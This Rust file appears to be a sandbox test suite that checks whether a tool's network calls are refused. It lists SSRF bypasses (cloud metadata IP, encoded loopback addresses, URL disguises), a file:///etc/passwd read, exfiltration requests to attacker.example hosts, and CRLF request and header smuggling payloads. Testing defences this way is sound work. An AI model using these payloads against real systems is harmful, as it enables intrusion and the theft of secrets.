//! Reaching addresses that need an explicit grant, by every spelling, and smuggling through an address that has one.

use crate::govrun::host::net::{self, Request, Response};
use crate::govrun::host::types::Error;
use crate::outcome::{Attempt, Outcome, describe};

pub(crate) const ATTEMPTS: &[Attempt] = &[
    ("net-metadata", || reach("http://169.254.169.254/latest/meta-data/")),
    ("net-loopback", || reach("http://127.0.0.1:22/")),
    ("net-loopback-v6", || reach("http://[::1]/")),
    ("net-loopback-mapped", || reach("http://[::ffff:127.0.0.1]/")),
    ("net-loopback-nat64", || reach("http://[64:ff9b::7f00:1]/")),
    ("net-loopback-decimal", || reach("http://2130706433/")),
    ("net-loopback-hex", || reach("http://0x7f.1/")),
    ("net-loopback-octal", || reach("http://0177.0.0.1/")),
    ("net-loopback-zero", || reach("http://0.0.0.0/")),
    ("net-localhost", || reach("http://localhost/")),
    ("net-localhost-dot", || reach("http://LOCALHOST./")),
    ("net-private", || reach("http://10.0.0.1/")),
    ("net-userinfo", || reach("http://user@127.0.0.1/")),
    ("net-userinfo-disguise", || reach("http://ledger.example.com@127.0.0.1/")),
    ("net-fragment-disguise", || reach("http://127.0.0.1#@ledger.example.com/")),
    ("net-backslash-disguise", || reach("http://127.0.0.1\\@ledger.example.com/")),
    ("net-full-width-dots", || reach("http://127\u{3002}0\u{3002}0\u{3002}1/")),
    ("net-file-scheme", || reach("file:///etc/passwd")),
    ("net-other-schemes", other_schemes),
    ("net-unknown-host", || reach("http://collector.attacker.example/drop")),
    ("net-name-exfiltration", || reach("http://c2VjcmV0.attacker.example/")),
    ("net-connect-method", connect_method),
    ("net-method-smuggling", method_smuggling),
    ("net-path-smuggling", path_smuggling),
    ("net-header-smuggling", header_smuggling),
    ("net-host-header", host_header),
    ("net-framing-headers", framing_headers),
    ("net-large-body", large_body),
    ("net-many-headers", many_headers),
];

fn fetch(method: &str, url: &str, headers: &[(&str, &str)]) -> Result<Response, Error> {
    let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    net::fetch(&Request { method: method.to_owned(), url: url.to_owned(), headers, body: Vec::new() })
}

/// Any answer at all is an escape.
fn reach(url: &str) -> Outcome {
    refused(url, fetch("GET", url, &[]))
}

fn refused(what: &str, result: Result<Response, Error>) -> Outcome {
    match result {
        Ok(response) => Outcome::escaped(format!("{what}: answered {}", response.status)),
        Err(error) => Outcome::held(format!("{what}: {}", describe(error))),
    }
}

/// The host the tool may reach; what is smuggled must travel in a request that is allowed otherwise.
fn ledger() -> String {
    let url = std::env::var("LEDGER_URL").unwrap_or_else(|_| "http://ledger.example.com".to_owned());
    url.trim_end_matches('/').to_owned()
}

fn other_schemes() -> Outcome {
    Outcome::any(
        ["ftp://127.0.0.1/", "gopher://127.0.0.1/", "unix:/run/docker.sock", "//127.0.0.1/"].map(reach),
    )
}

fn connect_method() -> Outcome {
    refused("CONNECT", fetch("CONNECT", &ledger(), &[]))
}

fn method_smuggling() -> Outcome {
    let method = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET";
    refused("a request inside the method", fetch(method, &ledger(), &[]))
}

fn path_smuggling() -> Outcome {
    let url = format!("{}/ HTTP/1.1\r\nX-Smuggled: yes\r\n\r\nGET /", ledger());
    refused("a request inside the path", fetch("GET", &url, &[]))
}

fn header_smuggling() -> Outcome {
    let url = ledger();
    Outcome::any([
        refused("value", fetch("GET", &url, &[("x-note", "a\r\nX-Smuggled: yes")])),
        refused("name", fetch("GET", &url, &[("x-note: a\r\nX-Smuggled", "yes")])),
    ])
}

/// The host may refuse the header or drop it. It escaped if the server's answer shows the foreign name.
fn host_header() -> Outcome {
    let foreign = "metadata.internal.example";
    match fetch("GET", &ledger(), &[("host", foreign)]) {
        Ok(response) if String::from_utf8_lossy(&response.body).contains(foreign) => {
            Outcome::escaped("the server saw the foreign host name")
        }
        Ok(response) => {
            Outcome::held(format!("answered {}, the foreign name is not in the body", response.status))
        }
        Err(error) => Outcome::held(describe(error)),
    }
}

/// Headers that decide where a message ends belong to the host alone.
fn framing_headers() -> Outcome {
    let headers = [("content-length", "5"), ("transfer-encoding", "chunked"), ("connection", "upgrade")];
    Outcome::any(headers.map(|header| refused(header.0, fetch("GET", &ledger(), &[header]))))
}

/// Twice what the WIT allows.
fn large_body() -> Outcome {
    let request = Request {
        method: "POST".to_owned(),
        url: format!("{}/payments", ledger()),
        headers: Vec::new(),
        body: vec![b'a'; 2 << 20],
    };
    refused("2 MiB body", net::fetch(&request))
}

fn many_headers() -> Outcome {
    let headers = vec![("x-flood", "a"); 100_000];
    refused("100,000 headers", fetch("GET", &ledger(), &headers))
}
